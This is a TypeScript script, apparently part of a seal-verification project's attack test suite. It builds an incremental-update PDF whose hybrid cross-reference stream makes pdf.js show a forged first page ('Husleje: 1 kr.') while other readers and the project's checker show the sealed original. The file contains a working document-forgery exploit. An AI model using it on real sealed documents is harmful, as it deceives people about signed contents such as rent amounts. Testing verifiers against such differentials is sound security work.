// a23: pdf.js follows the /Prev of a hybrid section's /XRefStm stream (readXRef pushes every section's /Prev on one
// FIFO queue); poppler, qpdf and PDFium read the /XRefStm and ignore its /Prev ("we'll use our trailer's /Prev", qpdf),
// and so does sealcheck (parsePdf reads the /XRefStm, then the table trailer's /Prev). pdf.js keeps the first entry it
// sets for a number. Layout, after the real archive:
//   V: a table update (nothing listed but a new content stream B, "Husleje: 1 kr."), trailer /Prev <sealed table>;
//      in its bytes, unlisted and never a line-start header: `endobj 4 0 obj << forged page 1 >> endobj` and a table F
//      (`xref 4 1 <that offset> ... trailer << >>`: a table has no `N G obj` header, so the unlisted scan has nothing to see);
//   U: a hybrid update: a table listing nothing new, /XRefStm S (an xref stream listing itself, /Prev F), /Prev V.
// pdf.js's queue: U -> [S, V]; S -> [V, F]; V -> [F, sealed]; F sets page 1 before the sealed table can.
// modes: attack; noprev (S without /Prev: the control, every reader sealed).
//   npx tsx scripts/attack-s18/xrefstm-prev.ts <attack|noprev>   REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "attack";
if (!["attack", "noprev"].includes(mode)) throw new Error("usage: <attack|noprev>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const alloc = new NumberAllocator(doc);
const [B, S] = [alloc.take(), alloc.take()];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number) => `${String(off).padStart(10, "0")} 00000 n \n`;
const row = (t: number, f2: number, f3: number) => [t, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;

// V
const offB = at;
push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
push(latin("endobj "));
const offP = at;
push(latin(`${P} 0 obj ${forgedPage} endobj\n`));
const offF = at;
push(latin(`xref\n${P} 1\n${entry(offP)}trailer\n<< /Size ${S + 1} >>\n`));
const xV = at;
push(
  latin(`xref\n${B} 1\n${entry(offB)}trailer\n<< /Size ${S + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${xV}\n%%EOF\n`),
);

// U
const offS = at;
const rows = row(1, offS, 0);
push([
  ...latin(
    `${S} 0 obj\n<< /Type /XRef /Size ${S + 1} /W [1 4 2] /Index [${S} 1]${mode === "attack" ? ` /Prev ${offF}` : ""} /Length ${rows.length} >>\nstream\n`,
  ),
  ...rows,
  ...latin("\nendstream\nendobj\n"),
]);
const xU = at;
push(latin(`xref\n${S} 1\n${entry(offS)}trailer\n<< /Size ${S + 1} ${carried.join(" ")} /Prev ${xV} /XRefStm ${offS} >>\nstartxref\n${xU}\n%%EOF\n`));
const file = save(work(`s18-xrefstm-prev-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`xrefstm-prev ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
